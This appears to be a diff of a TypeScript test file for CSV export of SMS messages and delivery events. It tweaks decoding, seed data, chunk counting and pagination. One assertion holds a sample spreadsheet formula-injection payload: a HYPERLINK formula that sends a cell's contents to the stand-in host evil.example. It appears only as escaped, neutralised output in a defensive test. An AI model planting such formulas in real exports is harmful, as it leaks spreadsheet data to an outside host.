@@ -31,7 +31,7 @@ async function readAll(stream: ReadableStream<Uint8Array>): Promise<{ text: stri
 		if (done) break;
 		chunks.push(value);
 	}
-	return { text: new TextDecoder().decode(Buffer.concat(chunks)), chunks };
+	return { text: new TextDecoder('utf-8', { ignoreBOM: true }).decode(Buffer.concat(chunks)), chunks };
 }
 const records = (text: string) => parse(text, { bom: true, columns: true }) as Record<string, string>[];
 
@@ -50,7 +50,7 @@ beforeAll(async () => {
 		insert into public.sms_messages (organization_id, contact_id, phone_number, message_content, status, error_code, price, price_unit, created_at)
 		select ${org}, case when i % 2 = 0 then ${evil!.id}::uuid else ${sum!.id}::uuid end,
 			case when i % 2 = 0 then '+14155550123' else '+14155550124' end,
-			case when i = 1 then '+1 415 555 0123 called' else 'Doors open at 7' end,
+			case when i = 1 then '+1 415 555 0123' when i = 3 then '+1 415 555 0123 called' else 'Doors open at 7' end,
 			case when i % 5 = 0 then 'failed' else 'delivered' end, case when i % 5 = 0 then 30003 end,
 			-0.0079, 'USD', timestamptz '2026-11-20T10:00:00Z' + i * interval '1 second'
 		from generate_series(1, ${ROWS}) i`;
@@ -91,11 +91,12 @@ describe('messagesCsv', () => {
 			created_at: '2026-11-20T02:00:01.000-08:00',
 			recipient: "'@SUM(1+1)",
 			phone: '+14155550124',
-			body: '+1 415 555 0123 called',
+			body: '+1 415 555 0123',
 			price: '-0.00790',
 			recipient_type: 'contact'
 		});
 		expect(rows.at(-2)).toMatchObject({ recipient: `'=HYPERLINK("http://evil.example/?x="&A1,"Click")`, phone: '+14155550123' });
+		expect(rows.at(-3)!.body).toBe("'+1 415 555 0123 called");
 		expect(rows.some((r) => r.body === 'not yours')).toBe(false);
 	});
 
@@ -117,7 +118,7 @@ describe('messagesCsv', () => {
 		}
 		expect(batches).toBe(ROWS / 250);
 		// The header, then one chunk per batch, each no bigger than a batch.
-		const dataChunks = chunks.slice(1).map((c) => records('id\n' + new TextDecoder().decode(c).split('\n').slice(0).join('\n')).length);
+		const dataChunks = chunks.slice(1).map((c) => (parse(new TextDecoder().decode(c)) as string[][]).length);
 		expect(dataChunks).toHaveLength(ROWS / 250);
 		expect(Math.max(...dataChunks)).toBeLessThanOrEqual(250);
 	});
@@ -126,7 +127,7 @@ describe('messagesCsv', () => {
 		const open = async () => {
 			const [{ n }] = await t.sql<{ n: number }[]>`
 				select count(*)::int as n from pg_stat_activity
-				where datname = current_database() and state like 'idle in transaction%' and pid <> pg_backend_pid()`;
+				where datname = current_database() and xact_start is not null and pid <> pg_backend_pid()`;
 			return n;
 		};
 		let batches = 0;
@@ -145,7 +146,8 @@ describe('messagesCsv', () => {
 describe('eventsCsv', () => {
 	it('writes the filtered delivery log in its order, payloads as JSON text, formulas neutralised', async () => {
 		const f = parseDeliveryLogFilters(new URLSearchParams({ status: 'delivered', q: '0124' }), { timeZone: TZ, defaultCountry: 'US' });
-		const listed = (await t.db.asUser(claims(), (tx) => listDeliveryEvents(tx, org, { ...f, limit: 100 }))).map((r) => r.id);
+		const listed: string[] = [];
+		for (const page of [1, 2]) listed.push(...(await t.db.asUser(claims(), (tx) => listDeliveryEvents(tx, org, { ...f, page, limit: 100 }))).map((r) => r.id));
 		const { text } = await readAll(eventsCsv({ db: t.db, claims: claims(), organizationId: org, filters: f, timeZone: TZ }));
 		const rows = records(text);
 		expect(listed).toHaveLength(150);
